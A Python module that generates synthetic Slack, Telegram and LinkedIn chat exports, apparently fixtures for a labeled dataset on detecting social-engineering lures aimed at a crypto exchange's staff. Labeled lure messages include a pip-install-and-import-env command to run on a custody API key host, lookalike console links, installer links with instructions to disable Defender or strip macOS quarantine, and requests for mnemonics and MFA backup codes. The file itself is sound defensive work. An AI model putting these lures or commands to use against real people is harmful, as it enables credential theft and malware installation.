"""Set I chat exports: a Slack workspace export, a Telegram Desktop result.json and a LinkedIn
messages.csv. Export shapes come from the shared writers (slack_writer.py, chat_writers.py).

Location of a chat message in labels.csv: `FILE#N`, N = the Nth counted message of the file (1-based,
file order). Slack channel_join / channel_leave / channel_purpose / channel_topic entries and Telegram
"type": "service" entries are not counted; LinkedIn counts data rows.
"""

from __future__ import annotations

import uuid
from typing import Any

from chat_writers import LinkedInWriter, TelegramWriter
from slack_writer import SlackWriter, slack_json
from spec import ChatFile, ChatItem

SLACK_SERVICE_SUBTYPES = ("channel_join", "channel_leave", "channel_purpose", "channel_topic")
TEAM = "T01KITSUNE"
GUEST_TEAM = "T0AMRWGATE"

SLACK_USERS: dict[str, dict[str, Any]] = {
    "U01ECARTER": {"name": "emily.carter", "real": "Emily Carter", "title": "CFO", "team": TEAM,
                   "email": "emily.carter@kitsune-ex.com"},
    "U02MTANAKA": {"name": "m.tanaka", "real": "Mika Tanaka", "title": "Treasury Operations", "team": TEAM,
                   "email": "m.tanaka@kitsune-ex.co.jp"},
    "U02STAKAHASHI": {"name": "s.takahashi", "real": "Sho Takahashi", "title": "Security", "team": TEAM,
                      "email": "s.takahashi@kitsune-ex.co.jp"},
    "U02KSUZUKI": {"name": "k.suzuki", "real": "Kenta Suzuki", "title": "Backend Engineer", "team": TEAM,
                   "email": "k.suzuki@kitsune-ex.co.jp"},
    "U0APLINDGREN": {"name": "petra.lindgren", "real": "Petra Lindgren", "title": "Settlement Ops, Marrowgate",
                     "team": GUEST_TEAM, "email": "p.lindgren@marrowgate-custody.com"},
    "U0AJHOLT": {"name": "jonas.holt", "real": "Jonas Holt", "title": "Integrations, Marrowgate",
                 "team": GUEST_TEAM, "email": "jonas.holt.mgc@proton.me"},
    "U0AFBSUP": {"name": "fireblocks-support", "real": "Fireblocks Support", "title": "Customer Success",
                 "team": GUEST_TEAM, "email": "fireblocks.cs.desk@gmail.com"},
}

_SLACK = SlackWriter(SLACK_USERS, TEAM, id_prefix="set-i:")
_msg, _join = _SLACK.message, _SLACK.join


def slack_export() -> list[ChatFile]:
    base = "chat/slack"
    users_file = _SLACK.users_file(base, admin="U02STAKAHASHI")
    channels = [
        {"id": "C03FINOPS", "name": "fin-ops", "created": 1704067400, "creator": "U01ECARTER",
         "is_archived": False, "is_general": False,
         "members": ["U01ECARTER", "U02MTANAKA", "U02STAKAHASHI", "U02KSUZUKI"],
         "topic": {"value": "Finance & treasury operations", "creator": "U01ECARTER", "last_set": 1704067400},
         "purpose": {"value": "", "creator": "", "last_set": 0}},
        {"id": "C0AMRWGATE", "name": "ext-marrowgate-custody", "created": 1798500000, "creator": "U02MTANAKA",
         "is_archived": False, "is_general": False,
         "members": ["U02MTANAKA", "U02KSUZUKI", "U0APLINDGREN", "U0AJHOLT", "U0AFBSUP"],
         "topic": {"value": "Shared channel with Marrowgate Custody (Slack Connect)", "creator": "U02MTANAKA",
                   "last_set": 1798500000},
         "purpose": {"value": "", "creator": "", "last_set": 0}},
    ]
    files = [users_file,
             ChatFile(f"{base}/channels.json", slack_json(channels)),
             ChatFile(f"{base}/integration_logs.json", b"[]\n")]

    def day(channel: str, date: str, items: list[tuple[dict[str, Any], ChatItem | None]]) -> None:
        files.append(_SLACK.day_file(base, channel, date, items, SLACK_SERVICE_SUBTYPES))

    day("fin-ops", "2026-11-05", [
        (_msg("U01ECARTER", "Reminder: any payment change request, even one that looks like it's from me, goes "
                            "through a TREAS ticket and a call-back to a number we already hold.",
              "2026-11-05 00:30", 100),
         ChatItem("benign", "exec-impersonation", "en", "the real CFO restates the payment call-back policy in the internal channel")),
        (_msg("U02MTANAKA", "TREAS-3112 を Fireblocks で起票済みです: <https://console.fireblocks.io/v2/transactions> "
                            "高橋さん、デバイスで宛先を確認のうえ承認をお願いします。", "2026-11-05 02:00", 200),
         ChatItem("benign", "wallet-request", "ja", "treasury links the real Fireblocks console for a ticketed internal transfer")),
        (_msg("U02STAKAHASHI", "Heads-up: fake '1Password emergency kit' mails from 1passsword-business[.]com "
                               "(three s). Don't enter anything, just hit Report.", "2026-11-05 03:10", 300),
         ChatItem("benign", "vendor-impersonation", "en", "security warning naming the fake vendor domain defanged")),
    ])
    day("ext-marrowgate-custody", "2026-11-10", [
        (_join("U0APLINDGREN", "2026-11-10 00:00", 10), None),
        (_join("U0AJHOLT", "2026-11-10 00:01", 20), None),
        (_join("U0AFBSUP", "2026-11-10 00:02", 30), None),
        (_msg("U0APLINDGREN", "Hi Mika, confirmations for Friday are in your inbox. Same SSI vault as always.",
              "2026-11-10 00:30", 100),
         ChatItem("benign", "conversation-hijack", "en", "genuine partner contact points to the usual SSI in the shared channel")),
        (_msg("U0AJHOLT", "Hey Kenta, to speed up the new settlement API we wrote a tiny helper. Could you run "
                          "`pip install marrowgate-sync==0.9.3 && mg-sync --import-env` on the box that holds the "
                          "Fireblocks API key? It just checks connectivity.", "2026-11-10 01:45", 200),
         ChatItem("lure", "recruiter-coding-test", "en",
                  "guest on a Proton account asks an engineer to pip install an unknown helper on the host with the custody API key")),
        (_msg("U0AFBSUP", "Hello from Fireblocks CS :wave: your workspace has a pending TAP migration. Approve it "
                          "here: <https://console.fireblocks.io.tap-migrate.com/approve|console.fireblocks.io> "
                          "before 18:00 JST or withdrawals pause.", "2026-11-10 02:30", 300),
         ChatItem("lure", "lookalike-link", "en",
                  "guest named 'Fireblocks Support' links text console.fireblocks.io to a prefix lookalike host")),
        (_msg("U02MTANAKA", "Fireblocks doesn't contact us through this channel. Petra, do you know Jonas and this "
                            "support account? I'll call you on your desk line.", "2026-11-10 02:50", 400),
         ChatItem("benign", "vendor-impersonation", "en", "staff declines and moves verification to a known phone number")),
        (_msg("U0AJHOLT", "Mika, Petra's in a meeting - she asked me to tell you Friday's settlement goes to "
                          "0x2C8b5E0a9D47f13B6e2A0c9d8F5b71E4a3D6c092 instead, the vault is being rotated.",
              "2026-11-10 03:05", 500),
         ChatItem("lure", "wallet-request", "en", "guest relays a new settlement address on someone else's behalf")),
        (_msg("U0APLINDGREN", "Mika - I don't know Jonas, he isn't on our team. Nothing has changed. Removing him now.",
              "2026-11-10 03:20", 600),
         ChatItem("benign", "wallet-request", "en", "the real partner contact confirms nothing changed")),
    ])
    return files


def telegram_export() -> list[ChatFile]:
    people = {"Omar Haddad": "user5099001122", "Li Wei": "user5055667788", "박대현": "user5066778899",
              "Camille Laurent": "user5077889900", "Nadia | Oasis Ventures": "user8012340001",
              "Kitsune Support": "user8012340002", "Hao | DeltaQuant": "user8012340003"}
    tg = TelegramWriter(people, first_id=7200)
    tg.service("Omar Haddad", "2026-11-04 06:00", "create_group", title="Kitsune regional desks",
               members=["Omar Haddad", "Li Wei", "박대현", "Camille Laurent"])
    tg.entry("Omar Haddad", "2026-11-04 06:05",
             ["مرحباً بالجميع. هذه المجموعة للتنسيق فقط، ولا تُرسل فيها أي عناوين محافظ أو تعليمات دفع."],
             ChatItem("benign", "wallet-request", "ar", "group owner says no wallet addresses or payment instructions in this group"))
    tg.service("Nadia | Oasis Ventures", "2026-11-05 07:00", "join_group_by_link")
    tg.entry("Nadia | Oasis Ventures", "2026-11-05 07:10",
             ["عمر، قبل مكالمة المستثمرين يجب تحديث برنامج الاجتماعات لدينا، هذا الرابط: ",
              {"type": "link", "text": "https://oasis-meet.co/update/OasisMeet_Update.pkg"},
              " — إذا رفض الماك التثبيت افتح الإعدادات واختر «فتح على أي حال»."],
             ChatItem("lure", "investor-meeting-install", "ar",
                      "investor asks to install a meeting 'update' pkg and override Gatekeeper"))
    tg.entry("Camille Laurent", "2026-11-05 07:30",
             ["Pour info, nos réunions investisseurs passent par Teams depuis le navigateur, rien à installer."],
             ChatItem("benign", "investor-meeting-install", "fr", "colleague says investor meetings run in the browser"))
    tg.service("Kitsune Support", "2026-11-06 02:00", "join_group_by_link")
    tg.entry("Kitsune Support", "2026-11-06 02:05",
             ["[공지] 지갑 보안 업그레이드로 모든 데스크 담당자는 아래 봇에 니모닉을 입력해 인증해야 합니다 → ",
              {"type": "mention", "text": "@kitsune_desk_secure_bot"}],
             ChatItem("lure", "wallet-request", "ko", "account named like company support asks desks to enter mnemonics in a bot"))
    tg.entry("박대현", "2026-11-06 02:15",
             ["이 계정은 회사 공식 계정이 아닙니다. 아무것도 입력하지 마세요. 보안팀에 신고했습니다."],
             ChatItem("benign", "wallet-request", "ko", "staff warns the group that the support account is fake"))
    tg.service("Hao | DeltaQuant", "2026-11-07 04:00", "join_group_by_link")
    tg.entry("Hao | DeltaQuant", "2026-11-07 04:10",
             ["李伟兄，我们的套利机器人 Windows 版，先装上试试：",
              {"type": "link", "text": "https://deltaquant.top/dl/DQArb_v3.exe"},
              " 装之前把 Defender 关掉，它会误报。"],
             ChatItem("lure", "trading-app", "zh", "stranger shares an arbitrage-bot exe and asks to turn off Defender"))
    tg.entry("Li Wei", "2026-11-07 04:30",
             ["谢谢，但我们只用 IT 批准的软件。"],
             ChatItem("benign", "trading-app", "zh", "staff declines the unvetted trading tool"))
    return [tg.export("Kitsune regional desks", "private_supergroup", 1987650077)]


def linkedin_export() -> list[ChatFile]:
    li = LinkedInWriter(lambda seed: str(uuid.uuid5(uuid.NAMESPACE_URL, "set-i:" + seed)))
    me = ("Kenta Suzuki", "https://www.linkedin.com/in/kenta-suzuki-kx")
    rec = ("Irene Kowalczyk", "https://www.linkedin.com/in/irene-kowalczyk-hires-2291")
    rw = ("Shota Hirano", "https://www.linkedin.com/in/shota-hirano-recruiter")
    cfo_fake = ("Emily Carter", "https://www.linkedin.com/in/emily-carter-cfo-kitsune-jp")
    inv = ("Marcus Teo", "https://www.linkedin.com/in/marcus-teo-ventures-5512")
    li.row("irene", rec, me, "2026-11-04 08:00", "Rust/Solana engineer - quick task",
           "Hi Kenta, our client (Solana perp DEX) skips CV screening for strong profiles. Please clone "
           "https://github.com/solvane-hiring/keeper-bot-task , run `cargo run --release` and then `npm i && npm run "
           "check` on your main laptop (it validates your local wallet config). Then DM me on Telegram @irene_kw.",
           ChatItem("lure", "recruiter-coding-test", "en",
                    "recruiter asks to run a GitHub repo on the main laptop to 'validate the wallet config', then Telegram"))
    li.row("irene", me, rec, "2026-11-04 11:00", "Rust/Solana engineer - quick task",
           "Hi Irene, I don't run external code on my work machine. Happy to do a live session instead.",
           ChatItem("benign", "recruiter-coding-test", "en", "the owner's own SENT reply declining to run the repo"),
           folder="SENT")
    li.row("shota", rw, me, "2026-11-05 03:00", "ポジションのご紹介",
           "鈴木様、平野と申します。外資系取引所のバックエンド職をご紹介できればと思います。選考は面接のみで、"
           "コーディング面接もブラウザ上で面接官と一緒に行います。ご興味があればお知らせください。",
           ChatItem("benign", "recruiter-coding-test", "ja", "recruiter with a browser-only live interview"))
    li.row("cfofake", cfo_fake, me, "2026-11-06 12:00", "Urgent",
           "Kenta, Emily here - new profile, the old one got locked. I need the AWS root MFA backup codes for the "
           "auditors today. Please send them here, email is being migrated.",
           ChatItem("lure", "exec-impersonation", "en", "second LinkedIn profile using the CFO's name asks for AWS root MFA backup codes"))
    li.row("marcus", inv, me, "2026-11-07 06:00", "Intro",
           "Hi Kenta, Marcus from Teo Ventures. Would love 20 minutes with your CTO; happy to use Google Meet or "
           "your preferred tool.",
           ChatItem("benign", "investor-meeting-install", "en", "investor proposes an ordinary call on any tool"))
    li.row("seoha", ("윤서하", "https://www.linkedin.com/in/yoon-seoha-capital-7781"), me, "2026-11-08 09:00",
           "투자 미팅 제안",
           "스즈키 님, 저희 펀드 IR 미팅은 자체 보안 회의 앱으로만 진행합니다. https://seoha-capital.net/app/JCMeet.dmg "
           "를 설치하시고, 실행이 막히면 터미널에서 xattr -c 명령으로 풀어 주세요.",
           ChatItem("lure", "investor-meeting-install", "ko",
                    "fund contact asks to install a meeting dmg and strip the quarantine attribute"))
    li.row("rochebrune", ("Lucas Perrin", "https://www.linkedin.com/in/lucas-perrin-rochebrune"), me,
           "2026-11-09 10:00", "Tableau de bord",
           "Bonjour Kenta, nous lançons un tableau de bord de prix pour nos partenaires. Installez notre extension "
           "Chrome : https://rochebrune-gestion-fr.com/ext/rb-prices.crx (glissez-la dans chrome://extensions en mode développeur).",
           ChatItem("lure", "trading-app", "fr",
                    "partner-named profile on a lookalike domain asks to sideload a price extension in developer mode"))
    return [li.export()]


def all_chats() -> list[ChatFile]:
    return [*slack_export(), *telegram_export(), *linkedin_export()]
